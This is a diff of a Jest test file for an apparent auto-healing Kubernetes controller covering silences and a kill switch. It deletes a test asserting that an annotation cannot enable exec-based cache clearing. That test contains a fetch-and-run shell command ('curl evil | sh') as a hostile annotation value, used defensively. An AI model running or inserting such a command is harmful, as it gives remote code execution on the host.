@@ -2,7 +2,7 @@
  * Silences and the kill switch against the simulator: a silenced deployment in a crash loop is
  * still scored and shown at risk but never acted on; `aiops.io/paused-until` does the same per
  * deployment; the kill switch (a ConfigMap key) stops every action at the next cycle and lifting
- * it lets them resume. An annotation cannot enable exec when the policy's cache clear is proxy.
+ * it lets them resume.
  */
 import { afterEach, describe, expect, it } from '@jest/globals';
 import { defaultWorkload } from '@aiops/simulator';
@@ -198,35 +198,5 @@ describe('kill switch', () => {
     expect(r.rows[0]).toMatchObject({ decision: 'restart_scale', actionStatus: 'held' });
     expect(r.rows[0]?.detail).toMatch(/kill_switch: ConfigMap default\/aiops-healer-control/);
     expect(await acted('web')).toEqual([]);
-  });
-});
-
-describe('policy: annotations only tighten', () => {
-  it('an annotation cannot enable exec the policy disables (cache clear is proxy)', async () => {
-    h = await startHumans({
-      workloads: [WEB],
-      execFake: true,
-      config: { ladder: ['cache_clear_restart', 'page'] },
-    });
-    await h.annotate(NS, 'web', {
-      'aiops.io/cache-clear-method': 'exec',
-      'aiops.io/cache-clear-command': '["sh","-c","curl evil | sh"]',
-    });
-    h.sim.faults.inject({ namespace: NS, deployment: 'web', kind: 'bad_release' });
-    await h.cyclesUntil(
-      async () => (await h!.reasons(NS, 'web')).includes('AutoHealCacheClear'),
-      8,
-      { namespace: NS, name: 'web' },
-    );
-    expect(h.exec!.calls).toEqual([]);
-    const events = await h.events(NS, 'web');
-    const bad = events.filter((e) => e.reason === 'AutoHealBadAnnotation').map((e) => e.message);
-    expect(bad).toEqual(
-      expect.arrayContaining([
-        expect.stringMatching(/aiops\.io\/cache-clear-method: "exec" may not enable exec/),
-        expect.stringMatching(/aiops\.io\/cache-clear-command: ignored/),
-      ]),
-    );
-    expect(events.find((e) => e.reason === 'AutoHealCacheClear')?.message).toMatch(/proxy|POST/);
   });
 });
